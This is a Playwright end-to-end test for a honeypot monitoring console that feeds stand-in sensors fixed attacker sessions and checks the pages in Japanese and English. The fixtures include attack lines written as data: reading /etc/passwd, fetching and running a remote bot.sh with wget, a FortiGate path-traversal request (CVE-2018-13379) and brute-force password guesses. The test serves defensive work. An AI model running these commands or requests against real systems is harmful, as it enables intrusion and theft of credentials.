/**
 * The decoy-server pages in real Chromium, from data a stand-in sensor reports: three sensors
 * enrolled with the real `mamori-agent enroll` (then heartbeating as `product: sensor`) report
 * listener problems and attacker interactions over mutual TLS — an SSH session with logins,
 * commands and a download, a FortiGate path-traversal exploit, a brute-force run, a port scan, a
 * still-open Telnet session and one source touching two facilities. The console shows the empty
 * state, the overview, the configuration drawer (with a refused port and a saved change), the
 * sessions, the replay and the attackers map, in Japanese and English, into e2e/screenshots/.
 *
 * The real sensor and real attack tools are exercised by e2e/sensors.test.ts; this test pins the
 * pages to exact, known data.
 */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { promisify } from 'node:util';
import type {
  AgentEvent,
  InteractionKind,
  PersonaKind,
  Sensor,
  SensorEventDetails,
  SensorSession,
  SessionStage,
} from '@mamori/contracts';
import { STAGE_SEVERITY } from '@mamori/contracts';
import type { Browser, Page } from 'playwright-core';
import { loadEnrolment } from '../apps/agent/src/state.ts';
import { type AgentCreds, agentRequest } from '../apps/server/src/test/harness.ts';
import { api, launch, newPage, SHOTS, setUpFirstAdmin, shot, tid } from './browser.ts';
import { type Platform, startPlatform } from './platform.ts';

const AGENT = path.resolve(import.meta.dirname, '../apps/agent/src/main.ts');
const run = promisify(execFile);
const ADMIN = { name: '阿部 由紀', email: 'soc@sendai-net.example.jp', password: 'aoba-jo-hirose-gawa-2026' };

type TestSensor = { agentId: string; facilityId: string; hostname: string; creds: AgentCreds; dir: string };

const facts = (hostname: string) => ({
  hostname,
  os: 'linux' as const,
  osVersion: 'Debian 12',
  ips: ['10.20.0.50'],
  agentVersion: '0.1.0',
  product: 'sensor' as const,
  uptimeSeconds: 7200,
});

async function asSensor<T>(platform: Platform, s: TestSensor, url: string, body: unknown): Promise<T> {
  const res = await agentRequest(platform.url, 'POST', url, body, s.creds, s.creds.caPem);
  assert.equal(res.status, 200, `${url}: ${JSON.stringify(res.json())}`);
  return res.json() as T;
}

/** One attacker session as the sensor would report it: each step becomes a `sensor.<interaction>` event. */
type Step = {
  after: number; // seconds since the session started
  kind: InteractionKind;
  fields?: Partial<Pick<SensorEventDetails, 'username' | 'password' | 'success' | 'command' | 'url' | 'summary'>> & {
    info?: Record<string, unknown>;
    ports?: number[];
  };
};

const RANK: SessionStage[] = ['scan', 'probe', 'login_attempt', 'login_success', 'command'];
function stageOf(kind: InteractionKind, success?: boolean): SessionStage {
  if (kind === 'scan') return 'scan';
  if (kind === 'login') return success ? 'login_success' : 'login_attempt';
  if (kind === 'command' || kind === 'download') return 'command';
  return 'probe';
}

function sessionEvents(
  s: TestSensor,
  o: { persona: PersonaKind; srcIp: string; dstPort: number; startedAgoSeconds: number; steps: Step[] },
): AgentEvent[] {
  const sessionId = randomUUID();
  const start = Date.now() - o.startedAgoSeconds * 1000;
  const srcPort = 40_000 + Math.floor(Math.random() * 20_000);
  let stage: SessionStage = o.steps[0]?.kind === 'scan' ? 'scan' : 'probe';
  return o.steps.map((step) => {
    const next = stageOf(step.kind, step.fields?.success);
    if (RANK.indexOf(next) > RANK.indexOf(stage)) stage = next;
    const { info, ports, ...fields } = step.fields ?? {};
    const details: SensorEventDetails = {
      sessionId,
      persona: o.persona,
      srcIp: o.srcIp,
      srcPort,
      dstPort: o.dstPort,
      interaction: step.kind,
      stage,
      ...fields,
      ...(info ? { info } : {}),
      ...(ports ? { ports } : {}),
    };
    const bookkeeping = step.kind === 'connect' || step.kind === 'disconnect';
    return {
      id: randomUUID(),
      occurredAt: new Date(start + step.after * 1000).toISOString(),
      source: 'sensor',
      kind: `sensor.${step.kind}`,
      severity: bookkeeping ? 'info' : STAGE_SEVERITY[stage],
      title: `おとりサーバ: ${o.srcIp} ${step.kind}`,
      details,
      dedupKey: `sensor:${s.agentId}:${o.srcIp}`,
    };
  });
}

/** Closes the console's pop-up messages (new alerts), so a screenshot shows the page under them. */
async function quiet(page: Page): Promise<void> {
  for (const button of await page.locator('.mantine-Notification-closeButton').all()) {
    await button.click().catch(() => {});
  }
  await page
    .locator('.mantine-Notification-root')
    .first()
    .waitFor({ state: 'detached' })
    .catch(() => {});
}

describe('decoy-server pages', () => {
  let platform: Platform;
  let browser: Browser;
  let page: Page;
  const problems: string[] = [];
  const sensors: TestSensor[] = [];
  let aoba: TestSensor;
  let izumi: TestSensor;
  let wakabayashi: TestSensor;

  before(async () => {
    platform = await startPlatform();
    browser = await launch();
    ({ page } = await newPage(browser, problems));
    await setUpFirstAdmin(page, platform.setupUrl, ADMIN);
  });
  after(async () => {
    await browser?.close();
    await platform?.stop();
    for (const s of sensors) fs.rmSync(s.dir, { recursive: true, force: true });
  });

  async function enrolSensor(facilityName: string, hostname: string): Promise<TestSensor> {
    const facility = await api<{ id: string }>(page, 'POST', '/api/facilities', {
      name: facilityName,
      type: 'hospital_medium',
      prefecture: '04',
      contact: { name: '情報システム室', phone: '022-000-0000' },
    });
    assert.equal(facility.status, 201);
    const token = await api<{ token: string }>(page, 'POST', '/api/enrolment-tokens', {
      facilityId: facility.json.id,
      ttlMinutes: 10,
    });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mamori-e2e-sensor-pages-'));
    const ca = path.join(platform.dataDir, 'pki', 'ca.crt');
    await run(
      process.execPath,
      [AGENT, 'enroll', '--server', platform.url, '--token', token.json.token, '--ca', ca, '--dir', dir],
      { env: { ...process.env, MAMORI_AGENT_LOG_LEVEL: 'warn' } },
    );
    const e = await loadEnrolment(dir);
    if (!e) throw new Error('the stand-in sensor did not enrol');
    const s = {
      agentId: e.config.agentId,
      facilityId: facility.json.id,
      hostname,
      creds: { keyPem: e.keyPem, certPem: e.certPem, caPem: e.caPem },
      dir,
    };
    sensors.push(s);
    await asSensor(platform, s, '/api/agent/heartbeat', facts(hostname));
    return s;
  }

  /** A heartbeat, then the status report a running sensor sends for the configuration it got. */
  async function report(s: TestSensor, problemsReported: { port: number; message: string }[]) {
    const hb = await asSensor<{ policy: { sensor: { revision: number; personas: { kind: string; port: number }[] } } }>(
      platform,
      s,
      '/api/agent/heartbeat',
      facts(s.hostname),
    );
    const failed = new Set(problemsReported.map((p) => p.port));
    await asSensor(platform, s, '/api/agent/sensor/status', {
      revision: hb.policy.sensor.revision,
      listening: hb.policy.sensor.personas.filter((p) => !failed.has(p.port)),
      problems: problemsReported,
    });
  }

  it('shows what to do when no sensor is enrolled', async () => {
    await page.goto(`${platform.url}/sensors`);
    await tid(page, 'sensors-empty').waitFor();
    assert.match((await tid(page, 'sensors-empty').textContent()) ?? '', /mamori-sensor を登録してください/);
    await shot(page, 'sensors-pages-empty');
  });

  it('lists the sensors with their personas, problems and last 24 hours', async () => {
    aoba = await enrolSensor('青葉台総合病院', 'aoba-decoy01');
    izumi = await enrolSensor('泉中央クリニック', 'izumi-decoy01');
    wakabayashi = await enrolSensor('若林こども病院', 'waka-decoy01');
    const cfg = await api<Sensor>(page, 'PUT', `/api/sensors/${izumi.agentId}/config`, {
      bind: '0.0.0.0',
      personas: [
        { kind: 'sslvpn_forti', port: 10443 },
        { kind: 'ssh', port: 22 },
        { kind: 'smb', port: 445 },
        { kind: 'dicom', port: 104 },
      ],
      acceptedLogins: [{ username: 'admin', password: 'admin' }],
    });
    assert.equal(cfg.status, 200, JSON.stringify(cfg.json));
    await report(aoba, []);
    await report(izumi, [{ port: 22, message: 'port 22 is already in use on 0.0.0.0' }]);
    await report(wakabayashi, [
      { port: 104, message: 'no permission to listen on port 104 (ports below 1024 need CAP_NET_BIND_SERVICE)' },
    ]);

    const attacker = '203.0.113.45';
    const inside = '10.20.30.41';
    await asSensor(platform, aoba, '/api/agent/events', {
      events: [
        ...sessionEvents(aoba, {
          persona: 'ssh',
          srcIp: attacker,
          dstPort: 22,
          startedAgoSeconds: 25 * 60,
          steps: [
            { after: 0, kind: 'connect' },
            { after: 1, kind: 'request', fields: { summary: 'SSH-2.0-Go', info: { client: 'SSH-2.0-Go' } } },
            { after: 2, kind: 'login', fields: { username: 'root', password: '123456', success: false } },
            { after: 4, kind: 'login', fields: { username: 'admin', password: 'admin', success: true } },
            { after: 7, kind: 'command', fields: { command: 'uname -a', info: { user: 'admin', cwd: '~' } } },
            { after: 9, kind: 'command', fields: { command: 'cat /etc/passwd', info: { user: 'admin', cwd: '~' } } },
            { after: 14, kind: 'command', fields: { command: 'cd /tmp', info: { user: 'admin', cwd: '~' } } },
            {
              after: 16,
              kind: 'command',
              fields: { command: 'wget http://198.51.100.23/bot.sh', info: { user: 'admin', cwd: '/tmp' } },
            },
            {
              after: 16.3,
              kind: 'download',
              fields: {
                url: 'http://198.51.100.23/bot.sh',
                summary: 'wget http://198.51.100.23/bot.sh',
                info: { tool: 'wget', user: 'admin' },
              },
            },
            {
              after: 95,
              kind: 'command',
              fields: { command: 'chmod +x bot.sh && ./bot.sh', info: { user: 'admin', cwd: '/tmp' } },
            },
            { after: 98, kind: 'disconnect', fields: { info: { seconds: 98 } } },
          ],
        }),
        ...sessionEvents(aoba, {
          persona: 'sslvpn_forti',
          srcIp: attacker,
          dstPort: 10443,
          startedAgoSeconds: 20 * 60,
          steps: [
            { after: 0, kind: 'connect' },
            { after: 1, kind: 'request', fields: { summary: 'GET /remote/login?lang=ja' } },
            {
              after: 2,
              kind: 'exploit',
              fields: {
                summary: 'GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
                url: '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
                info: { cve: 'CVE-2018-13379', method: 'GET' },
              },
            },
            { after: 3, kind: 'disconnect', fields: { info: { seconds: 3 } } },
          ],
        }),
        // A brute-force run over the night, one connection per guess.
        ...['123456', 'password', 'qwerty', 'letmein', 'iloveyou', 'P@ssw0rd'].flatMap((pw, k) =>
          sessionEvents(aoba, {
            persona: 'ssh',
            srcIp: '198.51.100.77',
            dstPort: 22,
            startedAgoSeconds: (k * 3 + 2) * 3600,
            steps: [
              { after: 0, kind: 'connect' },
              { after: 1, kind: 'login', fields: { username: 'root', password: pw, success: false } },
              { after: 2, kind: 'disconnect', fields: { info: { seconds: 2 } } },
            ],
          }),
        ),
        // Someone inside is connected to the Telnet decoy right now.
        ...sessionEvents(aoba, {
          persona: 'telnet',
          srcIp: inside,
          dstPort: 23,
          startedAgoSeconds: 90,
          steps: [
            { after: 0, kind: 'connect' },
            { after: 5, kind: 'login', fields: { username: 'admin', password: 'kango2026', success: false } },
            { after: 12, kind: 'login', fields: { username: 'admin', password: 'admin', success: true } },
            { after: 20, kind: 'command', fields: { command: 'ls -la', info: { user: 'admin', cwd: '~' } } },
          ],
        }),
      ],
    });
    await asSensor(platform, izumi, '/api/agent/events', {
      events: [
        ...sessionEvents(izumi, {
          persona: 'sslvpn_forti',
          srcIp: attacker,
          dstPort: 10443,
          startedAgoSeconds: 12 * 60,
          steps: [
            { after: 0, kind: 'connect' },
            { after: 1, kind: 'request', fields: { summary: 'GET /remote/login?lang=ja' } },
            { after: 3, kind: 'login', fields: { username: 'admin', password: 'Izumi#2026', success: false } },
            { after: 4, kind: 'disconnect', fields: { info: { seconds: 4 } } },
          ],
        }),
        ...sessionEvents(izumi, {
          persona: 'smb',
          srcIp: inside,
          dstPort: 445,
          startedAgoSeconds: 5 * 60,
          steps: [
            { after: 0, kind: 'connect' },
            { after: 1, kind: 'request', fields: { summary: 'SMB2 NEGOTIATE (dialects 0x0202, 0x0311)' } },
            {
              after: 2,
              kind: 'login',
              fields: {
                username: 'IZUMI\\nurse01',
                password: 'Kango2026',
                success: false,
                info: { workstation: 'PC-NS-03' },
              },
            },
            { after: 3, kind: 'disconnect', fields: { info: { seconds: 3 } } },
          ],
        }),
      ],
    });
    await asSensor(platform, wakabayashi, '/api/agent/events', {
      events: [
        ...sessionEvents(wakabayashi, {
          persona: 'tcp',
          srcIp: '192.0.2.200',
          dstPort: 8080,
          startedAgoSeconds: 7 * 3600,
          steps: [
            { after: 0, kind: 'connect' },
            {
              after: 0,
              kind: 'scan',
              fields: { summary: '9 ports', ports: [21, 22, 23, 80, 443, 445, 3389, 8080, 10443] },
            },
            { after: 1, kind: 'disconnect', fields: { info: { seconds: 1 } } },
          ],
        }),
        ...sessionEvents(wakabayashi, {
          persona: 'emr_web',
          srcIp: '192.0.2.14',
          dstPort: 8443,
          startedAgoSeconds: 3 * 3600,
          steps: [
            { after: 0, kind: 'connect' },
            { after: 1, kind: 'request', fields: { summary: 'GET /login' } },
            { after: 6, kind: 'login', fields: { username: 'doctor01', password: 'Spring2026', success: false } },
            { after: 7, kind: 'disconnect', fields: { info: { seconds: 7 } } },
          ],
        }),
      ],
    });

    await page.goto(`${platform.url}/sensors`);
    const row = page.locator('[data-testid="sensor-row"][data-host="izumi-decoy01"]');
    await row.waitFor();
    assert.match(
      (await row.locator('[data-testid="sensor-problems"]').textContent()) ?? '',
      /ポート 22 は使用中のため起動できません/,
    );
    assert.equal(await row.locator('[data-persona="ssh"][data-failed="true"]').count(), 1, 'the failed port is marked');
    const aobaRow = page.locator('[data-testid="sensor-row"][data-host="aoba-decoy01"]');
    assert.equal(await aobaRow.locator('[data-testid="sensor-sessions24h"]').textContent(), '接続 9 回');
    await page
      .locator('[data-testid="sensors-live-table"] [data-testid="sensor-session-row"][data-persona="telnet"]')
      .waitFor();
    await tid(page, 'sensors-activity-chart').locator('svg').waitFor();
    await page.locator('[data-testid="sensors-stat-sources"]', { hasText: '2 件が地域の複数施設を攻撃' }).waitFor();
    await quiet(page);
    await shot(page, 'sensors-pages-overview');
    // What each decoy pretends to be, and the same 24 hours by decoy kind.
    await tid(page, 'sensors-guide-toggle').click();
    await page.getByText('SSL-VPN 装置のログイン画面(FortiGate 型)', { exact: false }).first().waitFor();
    await page.locator('[data-testid="sensors-chart-mode"] label', { hasText: 'おとりの種類ごと' }).click();
    await page.evaluate('window.scrollTo(0, 0)');
    await shot(page, 'sensors-pages-overview-kinds');
  });

  it('configures a sensor: a shared port is refused on its field, a change is saved', async () => {
    const before = await api<{ items: Sensor[] }>(page, 'GET', '/api/sensors');
    const cfgRevision = before.json.items.find((s) => s.agentId === izumi.agentId)?.revision ?? 0;
    await page
      .locator('[data-testid="sensor-row"][data-host="izumi-decoy01"] [data-testid="sensor-configure"]')
      .click();
    await tid(page, 'sensor-config-port-ssh').waitFor();
    await tid(page, 'sensor-config-port-ssh').fill('445');
    await tid(page, 'sensor-config-submit').click();
    const sshField = page.locator('[data-testid="sensor-config-persona-ssh"]');
    await sshField.getByText('ポート 445 は「ファイル共有 (SMB)」と重なっています').waitFor();
    // The drawer scrolls on its own: these are pictures of the window, not of the whole page.
    await quiet(page);
    await tid(page, 'sensor-config-persona-sslvpn_forti').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(SHOTS, 'sensors-pages-config.png') });
    await sshField.scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(SHOTS, 'sensors-pages-config-error.png') });
    await tid(page, 'sensor-config-advanced').click();
    await tid(page, 'sensor-config-limit-scanWindowSeconds').waitFor();
    await page.waitForTimeout(400); // the panel's opening animation
    await tid(page, 'sensor-config-limit-scanWindowSeconds').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(SHOTS, 'sensors-pages-config-advanced.png') });
    await tid(page, 'sensor-config-port-ssh').fill('2222');
    await tid(page, 'sensor-config-enable-telnet').check();
    await tid(page, 'sensor-config-submit').click();
    await page.getByText('「izumi-decoy01」の設定を保存しました').waitFor();
    const list = await api<{ items: Sensor[] }>(page, 'GET', '/api/sensors');
    const saved = list.json.items.find((s) => s.agentId === izumi.agentId);
    assert.deepEqual(
      saved?.config.personas.map((p) => `${p.kind}:${p.port}`),
      ['sslvpn_forti:10443', 'ssh:2222', 'telnet:23', 'smb:445', 'dicom:104'],
    );
    assert.ok((saved?.revision ?? 0) > cfgRevision, 'a new revision for the sensor to fetch');
  });

  it('lists the sessions and replays one', async () => {
    await page.goto(`${platform.url}/sensors?tab=sessions`);
    await tid(page, 'sensor-session-row').first().waitFor();
    assert.equal(await tid(page, 'sensor-sessions-total').textContent(), '全 13 件');
    await quiet(page);
    await shot(page, 'sensors-pages-sessions');

    const sessions = await api<{ items: SensorSession[] }>(
      page,
      'GET',
      `/api/sensors/sessions?agentId=${aoba.agentId}&persona=ssh&srcIp=203.0.113.45`,
    );
    const ssh = sessions.json.items[0];
    assert.ok(ssh);
    await page.goto(`${platform.url}/sensors/sessions/${ssh.id}`);
    await tid(page, 'sensor-replay-terminal').getByText('uname -a').waitFor();
    assert.equal(await tid(page, 'sensor-session-stage').getAttribute('data-stage'), 'command');
    assert.match((await tid(page, 'sensor-download-url').textContent()) ?? '', /198\.51\.100\.23\/bot\.sh/);
    assert.equal(await tid(page, 'sensor-download-not-fetched').textContent(), '取得していません');
    // The URL is text, never a link.
    assert.equal(await page.locator('a[href*="198.51.100.23"]').count(), 0);
    assert.match((await tid(page, 'sensor-session-advice').textContent()) ?? '', /地域SOCに連絡/);
    await quiet(page);
    await shot(page, 'sensors-pages-session');

    // Played from the start at 4x, the replay shows the lines one by one and can be paused.
    await page.locator('[data-testid="sensor-replay-speed"] label', { hasText: '4x' }).click();
    await tid(page, 'sensor-replay-restart').click();
    assert.equal(await tid(page, 'sensor-replay-line').count(), 0);
    await tid(page, 'sensor-replay-play').click();
    await page.locator('[data-testid="sensor-replay-line"][data-kind="command"]').first().waitFor();
    await tid(page, 'sensor-replay-pause').click();
    const shown = await tid(page, 'sensor-replay-line').count();
    assert.ok(shown >= 5 && shown < 11, `paused part-way (${shown} of 11 lines)`);
    await shot(page, 'sensors-pages-session-replaying');
    await tid(page, 'sensor-replay-all').click();
    assert.equal(await tid(page, 'sensor-replay-line').count(), 11);

    const forti = await api<{ items: SensorSession[] }>(
      page,
      'GET',
      `/api/sensors/sessions?agentId=${aoba.agentId}&persona=sslvpn_forti`,
    );
    await page.goto(`${platform.url}/sensors/sessions/${forti.json.items[0]?.id}`);
    await tid(page, 'sensor-exploit-cve').waitFor();
    assert.equal(await tid(page, 'sensor-exploit-cve').textContent(), 'CVE-2018-13379');
    assert.match((await tid(page, 'sensor-session-exploit').textContent()) ?? '', /CVE-2018-13379/);
    await quiet(page);
    await shot(page, 'sensors-pages-session-exploit');

    // A session still open says so and keeps reading what the attacker types.
    const live = await api<{ items: SensorSession[] }>(page, 'GET', '/api/sensors/sessions?live=true');
    assert.deepEqual(
      live.json.items.map((x) => x.persona),
      ['telnet'],
    );
    await page.goto(`${platform.url}/sensors/sessions/${live.json.items[0]?.id}`);
    await tid(page, 'sensor-session-live').waitFor();
    await tid(page, 'sensor-replay-terminal').getByText('ls -la').waitFor();
    await quiet(page);
    await shot(page, 'sensors-pages-session-live');
  });

  it('maps the sources to the facilities and lists the credentials tried', async () => {
    await page.goto(`${platform.url}/sensors?tab=attackers`);
    await tid(page, 'sensors-source-heatmap').locator('svg').waitFor();
    const regional = page.locator('[data-testid="sensor-source-row"][data-regional="true"]');
    await regional.first().waitFor();
    assert.equal(await regional.count(), 2, '203.0.113.45 and 10.20.30.41 touched two facilities each');
    assert.match((await regional.first().textContent()) ?? '', /地域で複数施設を攻撃/);
    const accepted = page.locator('[data-testid="sensor-credential-row"][data-accepted="true"]');
    assert.match((await accepted.first().textContent()) ?? '', /admin.*admin/);
    await quiet(page);
    await shot(page, 'sensors-pages-attackers');
    // A source opens its sessions, filtered by its address.
    await regional.first().click();
    await page.waitForURL(/tab=sessions&srcIp=203\.0\.113\.45/);
    await page.locator('[data-testid="sensor-sessions-total"]', { hasText: '全 3 件' }).waitFor();
    assert.equal(await tid(page, 'sensor-sessions-filter-ip').inputValue(), '203.0.113.45');
  });

  it('reads in English too', async () => {
    // The saved change is a new revision: the sensor reports again for it (SSH now on 2222).
    await report(izumi, [{ port: 2222, message: 'port 2222 is already in use on 0.0.0.0' }]);
    await tid(page, 'lang-switch').click();
    await page.goto(`${platform.url}/sensors?tab=attackers`);
    await page.getByText('Sources and the facilities they attacked').waitFor();
    await shot(page, 'sensors-pages-attackers-en');
    await page.goto(`${platform.url}/sensors`);
    await page.getByText('Port 2222 cannot start because it is already in use', { exact: false }).first().waitFor();
    await shot(page, 'sensors-pages-overview-en');
    const sessions = await api<{ items: SensorSession[] }>(
      page,
      'GET',
      `/api/sensors/sessions?agentId=${aoba.agentId}&persona=ssh&srcIp=203.0.113.45`,
    );
    await page.goto(`${platform.url}/sensors/sessions/${sessions.json.items[0]?.id}`);
    await tid(page, 'sensor-replay-terminal').getByText('uname -a').waitFor();
    await shot(page, 'sensors-pages-session-en');
    await tid(page, 'lang-switch').click();
    assert.deepEqual(problems, []);
  });
});
